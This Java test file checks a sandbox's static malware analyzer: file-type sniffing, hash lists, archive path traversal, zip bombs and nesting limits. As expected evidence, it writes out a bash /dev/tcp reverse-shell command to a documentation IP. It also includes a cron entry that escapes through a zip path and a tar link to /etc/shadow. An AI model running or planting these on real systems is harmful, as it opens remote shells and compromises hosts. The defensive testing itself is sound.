package dev.kiroku.sandbox.statics;

import dev.kiroku.sandbox.Reason;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import static org.assertj.core.api.Assertions.assertThat;

class ContentAnalysisTest {
    private final StaticAnalyzer analyzer = new StaticAnalyzer(StaticAnalyzer.builtInChecks(KnownBadHashes.empty()),
            new ArchiveLimits(3, 100, 8L << 20, 100, 1 << 20));

    static byte[] sample(String name) throws IOException {
        try (InputStream in = ContentAnalysisTest.class.getResourceAsStream("/samples/" + name)) {
            return in.readAllBytes();
        }
    }

    private static List<String> codes(StaticReport report) {
        return report.reasons().stream().map(Reason::code).toList();
    }

    @Test
    void typesAreToldByContent() {
        assertThat(FileType.of("#!/usr/bin/env python3\nprint(1)".getBytes())).isEqualTo(FileType.PYTHON_SCRIPT);
        assertThat(FileType.of("#!/bin/bash\necho".getBytes())).isEqualTo(FileType.SHELL_SCRIPT);
        assertThat(FileType.of("#!/usr/bin/perl -w\n".getBytes())).isEqualTo(FileType.PERL_SCRIPT);
        assertThat(FileType.of(new byte[]{(byte) 0xCF, (byte) 0xFA, (byte) 0xED, (byte) 0xFE, 7, 0, 0, 1})).isEqualTo(FileType.MACHO);
        assertThat(FileType.of(new byte[]{(byte) 0xCA, (byte) 0xFE, (byte) 0xBA, (byte) 0xBE, 0, 0, 0, 65})).isEqualTo(FileType.UNKNOWN); // a Java class
        assertThat(FileType.of(new byte[]{0x1F, (byte) 0x8B, 8, 0})).isEqualTo(FileType.GZIP);
        assertThat(FileType.of(new byte[0])).isEqualTo(FileType.EMPTY);
        assertThat(FileType.of("plain words\n".getBytes())).isEqualTo(FileType.TEXT);
    }

    @Test
    void scriptSamplesShowTheirConstructsWithLineNumbers() throws IOException {
        StaticReport shell = analyzer.analyze("reverse-shell.sh", sample("reverse-shell.sh"));
        assertThat(shell.type()).isEqualTo(FileType.SHELL_SCRIPT);
        assertThat(codes(shell)).contains("static.script.reverse_shell", "static.indicator.ip");
        assertThat(shell.reasons().getFirst().evidence()).isEqualTo("reverse-shell.sh line 4: bash -i >& /dev/tcp/203.0.113.66/4444 0>&1");
        StaticReport miner = analyzer.analyze("miner.py", sample("miner.py"));
        assertThat(codes(miner)).contains("static.script.miner", "static.indicator.url", "static.indicator.domain");
        assertThat(miner.indicators().urls()).containsExactly("stratum+tcp://pool.minexmr-example.com:3333");
        assertThat(codes(analyzer.analyze("persistence.sh", sample("persistence.sh")))).contains("static.script.persistence");
        assertThat(analyzer.analyze("benign-tool.sh", sample("benign-tool.sh")).reasons()).isEmpty();
        assertThat(analyzer.analyze("benign-report.py", sample("benign-report.py")).reasons()).isEmpty();
    }

    @Test
    void knownBadHashesComeFromASimpleFile(@TempDir Path dir) throws IOException {
        byte[] shell = sample("reverse-shell.sh");
        Path list = dir.resolve("bad.txt");
        Files.writeString(list, "# known bad\n" + StaticAnalyzer.sha256(shell) + " test-revshell\nnot-a-hash\n\n");
        KnownBadHashes bad = KnownBadHashes.load(list);
        assertThat(bad.size()).isEqualTo(1);
        assertThat(bad.problems()).singleElement().asString().contains("line 3").contains("not-a-hash");
        StaticReport report = new StaticAnalyzer(StaticAnalyzer.builtInChecks(bad), ArchiveLimits.defaults()).analyze("x", shell);
        Reason hit = report.reasons().stream().filter(r -> r.code().equals("static.known_bad_hash")).findFirst().orElseThrow();
        assertThat(hit.weight()).isEqualTo(100);
        assertThat(hit.evidence()).contains("test-revshell");
    }

    @Test
    void zipMembersAreAnalysedAndPathTraversalIsReported() throws IOException {
        byte[] zip = zip(new String[]{"tools/revshell.sh", "../../etc/cron.d/evil", "ok.txt"},
                new byte[][]{sample("reverse-shell.sh"), "* * * * * root sh".getBytes(), "fine".getBytes()});
        StaticReport report = analyzer.analyze("bundle.zip", zip);
        assertThat(report.type()).isEqualTo(FileType.ZIP);
        assertThat(report.members()).extracting(Member::path)
                .containsExactly("bundle.zip!tools/revshell.sh", "bundle.zip!../../etc/cron.d/evil", "bundle.zip!ok.txt");
        assertThat(report.reasons()).anySatisfy(r -> {
            assertThat(r.code()).isEqualTo("archive.path_traversal");
            assertThat(r.evidence()).isEqualTo("bundle.zip!../../etc/cron.d/evil");
        });
        assertThat(report.reasons()).anySatisfy(r -> {
            assertThat(r.code()).isEqualTo("static.script.reverse_shell");
            assertThat(r.evidence()).startsWith("bundle.zip!tools/revshell.sh line 4");
        });
    }

    @Test
    void zipBombStopsAtTheRatioLimit() throws IOException {
        byte[] bomb = zip(new String[]{"zeros.bin"}, new byte[][]{new byte[64 << 20]});
        assertThat(bomb.length).isLessThan(200_000);
        long started = System.nanoTime();
        StaticReport report = analyzer.analyze("bomb.zip", bomb);
        assertThat(report.reasons()).anySatisfy(r -> {
            assertThat(r.code()).isEqualTo("archive.bomb");
            assertThat(r.evidence()).contains("bomb.zip").containsAnyOf("compression ratio above 100:1", "bytes decompressed");
        });
        assertThat(System.nanoTime() - started).isLessThan(5_000_000_000L);
    }

    @Test
    void nestingDeeperThanTheLimitIsListedNotOpened() throws IOException {
        byte[] inner = sample("reverse-shell.sh");
        String name = "revshell.sh";
        for (int level = 0; level < 5; level++) {
            inner = zip(new String[]{name}, new byte[][]{inner});
            name = "level" + level + ".zip";
        }
        StaticReport report = analyzer.analyze("nested.zip", inner);
        assertThat(report.reasons()).anySatisfy(r -> assertThat(r.code()).isEqualTo("archive.too_deep"));
        assertThat(codes(report)).doesNotContain("static.script.reverse_shell");
    }

    @Test
    void tarGzWithEscapingLinksAndMembers() throws IOException {
        ByteArrayOutputStream tar = new ByteArrayOutputStream();
        tarEntry(tar, "payload/revshell.sh", '0', "", sample("reverse-shell.sh"));
        tarEntry(tar, "payload/shadow", '2', "/etc/shadow", new byte[0]);
        tarEntry(tar, "/etc/profile.d/x.sh", '0', "", "echo hi\n".getBytes());
        tar.write(new byte[1024]);
        ByteArrayOutputStream gz = new ByteArrayOutputStream();
        try (GZIPOutputStream out = new GZIPOutputStream(gz)) {
            out.write(tar.toByteArray());
        }
        StaticReport report = analyzer.analyze("kit.tar.gz", gz.toByteArray());
        assertThat(report.type()).isEqualTo(FileType.GZIP);
        assertThat(report.members()).extracting(Member::path).contains("kit.tar.gz!kit.tar", "kit.tar.gz!kit.tar!payload/revshell.sh");
        assertThat(codes(report)).contains("archive.link_traversal", "archive.path_traversal", "static.script.reverse_shell");
    }

    @Test
    void unknownFormatsAndBrokenArchivesAreReportLines() throws IOException {
        StaticReport unknown = analyzer.analyze("blob.bin", Executables.random(3, 4096));
        assertThat(unknown.reasons()).anySatisfy(r -> assertThat(r.code()).isEqualTo("input.unknown_format"));
        byte[] zip = zip(new String[]{"a.txt"}, new byte[][]{"hello ".repeat(1000).getBytes()});
        byte[] broken = java.util.Arrays.copyOf(zip, zip.length / 2);
        StaticReport report = analyzer.analyze("broken.zip", broken);
        assertThat(report.reasons()).anySatisfy(r -> {
            assertThat(r.code()).isEqualTo("archive.malformed");
            assertThat(r.evidence()).startsWith("broken.zip: ");
        });
    }

    static byte[] zip(String[] names, byte[][] contents) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream out = new ZipOutputStream(bytes)) {
            for (int i = 0; i < names.length; i++) {
                out.putNextEntry(new ZipEntry(names[i]));
                out.write(contents[i]);
                out.closeEntry();
            }
        }
        return bytes.toByteArray();
    }

    private static void tarEntry(ByteArrayOutputStream tar, String name, char type, String link, byte[] content) throws IOException {
        byte[] header = new byte[512];
        put(header, 0, name);
        put(header, 100, "0000644");
        put(header, 124, String.format("%011o", content.length));
        header[156] = (byte) type;
        put(header, 157, link);
        put(header, 257, "ustar");
        tar.write(header);
        tar.write(content);
        tar.write(new byte[(512 - content.length % 512) % 512]);
    }

    private static void put(byte[] header, int at, String text) {
        byte[] b = text.getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(b, 0, header, at, b.length);
    }
}
